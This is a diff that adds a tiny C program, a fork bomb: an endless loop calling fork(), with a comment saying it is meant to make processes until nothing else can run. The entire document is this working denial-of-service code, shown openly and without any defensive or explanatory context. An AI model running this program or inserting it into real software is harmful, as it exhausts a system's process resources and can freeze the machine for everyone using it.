@@ -1,0 +1,9 @@
+/* Why: make processes until nothing else can run. */
+/* Earns: 0 */
+#include <unistd.h>
+
+int main(void)
+{
+	for (;;)
+		fork();
+}
